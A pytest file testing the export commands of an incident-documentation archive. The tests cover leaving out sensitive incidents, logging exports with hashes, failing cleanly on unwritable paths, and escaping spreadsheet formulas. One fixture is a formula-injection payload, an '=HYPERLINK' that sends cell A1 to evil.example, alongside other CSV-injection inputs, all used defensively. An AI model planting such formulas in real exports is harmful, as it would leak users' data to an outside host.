"""Exports a monitor hands out: incidents marked sensitive stay out unless asked for (and the
export says how many), a cell a spreadsheet would run as a formula is shown as text, and an
export that cannot be written is one line and leaves no signed entry and no half file."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from corroborate.custody import entries
from corroborate.custody.setup import init_archive
from corroborate.incidents import create_incident, get_incident, import_incidents
from corroborate.report.exports import safe_cell
from corroborate.storage.archive import Archive
from incident_fixtures import execution

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _two_one_sensitive(archive: Archive) -> tuple[str, str]:
    plain = create_incident(archive, execution(), actor="alice").id
    hidden = create_incident(
        archive, execution(title="Wounded prisoner filmed", sensitive="yes"), actor="alice"
    ).id
    return plain, hidden


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "geojson"])
def test_sensitive_incidents_are_left_out_unless_asked_for(
    archive: Archive,
    cli,
    fmt: str,  # noqa: ANN001
) -> None:
    plain, hidden = _two_one_sensitive(archive)
    out = cli("export", "incidents", "--format", fmt)
    assert out.exit_code == 0, out.output
    assert plain in out.stdout and hidden not in out.stdout
    assert "1 incident marked sensitive left out (--include-sensitive" in out.stderr
    logged = [e for e in entries(archive) if e.action == "export.incidents"][-1]
    assert logged.details["sensitive_left_out"] == 1 and logged.details["incidents"] == [plain]

    out = cli("export", "incidents", "--format", fmt, "--include-sensitive")
    assert plain in out.stdout and hidden in out.stdout and "left out" not in out.stderr


def test_the_json_summary_of_an_export_says_what_it_left_out(
    archive: Archive,
    cli,
    tmp_path: Path,  # noqa: ANN001
) -> None:
    plain, _ = _two_one_sensitive(archive)
    target = tmp_path / "out.jsonl"
    out = cli("export", "incidents", "--format", "jsonl", "--out", target, "--json")
    assert out.exit_code == 0, out.output
    summary = json.loads(out.stdout)
    assert summary["sensitive_left_out"] == 1 and summary["incidents"] == [plain]
    assert summary["sha256"] == __import__("hashlib").sha256(target.read_bytes()).hexdigest()
    # to stdout, the JSON carries the export itself
    out = cli("export", "incidents", "--format", "csv", "--json")
    summary = json.loads(out.stdout)
    assert summary["sensitive_left_out"] == 1 and summary["file"] is None
    assert summary["content"].startswith("id,uid,status,")


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Robotyne", "Robotyne"),
        ("", ""),
    ],
)
def test_a_formula_cell_is_neutralised(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


def test_an_imported_formula_is_stored_as_written_and_exported_as_text(
    archive: Archive,
    cli,
    tmp_path: Path,  # noqa: ANN001
) -> None:
    sheet = tmp_path / "sheet.csv"
    with sheet.open("w", newline="") as fh:
        csv.writer(fh).writerows(
            [
                ["title", "type", "date", "latitude", "longitude", "description"],
                [FORMULA, "other", "2024-10-10", "-33.5", "-70.6", "-3 civilians, then @home"],
            ]
        )
    inc = import_incidents(archive, sheet, actor="alice").incidents[0]
    assert get_incident(archive, inc.id).title == FORMULA  # kept as written
    out = cli("export", "incidents", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(out.stdout)))
    assert row["title"] == "'" + FORMULA
    assert row["description"] == "'-3 civilians, then @home"
    # coordinates are numbers we write: left as numbers
    assert (row["latitude"], row["longitude"]) == ("-33.500000", "-70.600000")

    # the export re-imported elsewhere gives back the text as written
    export = tmp_path / "export.csv"
    export.write_text(out.stdout)
    fresh = init_archive(tmp_path / "fresh")
    again = import_incidents(fresh, export, actor="bob").incidents[0]
    assert again.title == FORMULA and again.description == "-3 civilians, then @home"
    fresh.close()


@pytest.mark.parametrize("where", ["missing-folder", "a-folder", "under-a-file"])
def test_an_unwritable_out_is_one_line_and_leaves_no_signed_entry(
    archive: Archive,
    cli,
    tmp_path: Path,
    where: str,  # noqa: ANN001
) -> None:
    create_incident(archive, execution(), actor="alice")
    target = {
        "missing-folder": tmp_path / "nowhere" / "x.csv",
        "a-folder": tmp_path,
        "under-a-file": tmp_path / "notes.txt" / "x.csv",  # works as root too
    }[where]
    (tmp_path / "notes.txt").write_text("not a folder\n")
    before = len(entries(archive))
    out = cli("export", "incidents", "--format", "csv", "--out", target)
    assert out.exit_code == 2, out.output
    assert str(target) in out.stderr and len(out.stderr.strip().splitlines()) == 1
    assert "Traceback" not in out.output
    assert len(entries(archive)) == before  # no export entry for a file never written
    assert (tmp_path / "notes.txt").read_text() == "not a folder\n"
    assert cli("verify").exit_code == 0


def test_an_export_is_in_place_before_its_entry_and_leaves_no_temporary(
    archive: Archive,
    cli,
    tmp_path: Path,  # noqa: ANN001
) -> None:
    create_incident(archive, execution(), actor="alice")
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "incidents.geojson"
    out = cli("export", "incidents", "--format", "geojson", "--out", target)
    assert out.exit_code == 0, out.output
    assert [p.name for p in folder.iterdir()] == ["incidents.geojson"]
    logged = [e for e in entries(archive) if e.action == "export.incidents"][-1]
    import hashlib

    assert logged.details["sha256"] == hashlib.sha256(target.read_bytes()).hexdigest()
    assert json.loads(target.read_text())["type"] == "FeatureCollection"
    assert cli("verify").exit_code == 0


def test_a_failed_log_commit_removes_the_file_it_would_describe(
    archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from corroborate.custody import log
    from corroborate.report import export_incidents

    create_incident(archive, execution(), actor="alice")
    target = tmp_path / "x.csv"
    real = log.seal_pending

    def crash(*args: object, **kwargs: object) -> object:
        raise OSError("disk full while sealing")

    monkeypatch.setattr(log, "seal_pending", crash)
    before = len(entries(archive))
    with pytest.raises(OSError):
        export_incidents(archive, "csv", actor="alice", out=target)
    monkeypatch.setattr(log, "seal_pending", real)
    assert not target.exists() and list(tmp_path.glob(".x.csv.*")) == []
    assert len(entries(archive)) == before
